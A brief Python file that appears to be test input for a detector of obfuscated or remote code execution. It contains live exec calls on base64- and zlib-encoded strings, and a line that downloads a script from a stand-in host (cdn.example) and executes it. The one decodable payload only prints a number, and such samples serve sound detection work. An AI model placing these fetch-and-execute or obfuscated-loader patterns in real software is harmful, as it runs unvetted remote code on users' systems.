import base64 as b, zlib
from urllib.request import urlopen

# exec(base64.b64decode(...)) in a comment is not code
exec(zlib.decompress(b.b64decode("eJwrzs9NVUjOzy0oSi0uBgAZ6ARK")))
payload = urlopen("https://cdn.example/p.py").read()
eval(compile(payload, "<p>", "exec"))
exec(__import__("base64").b64decode("cHJpbnQoMSk="))
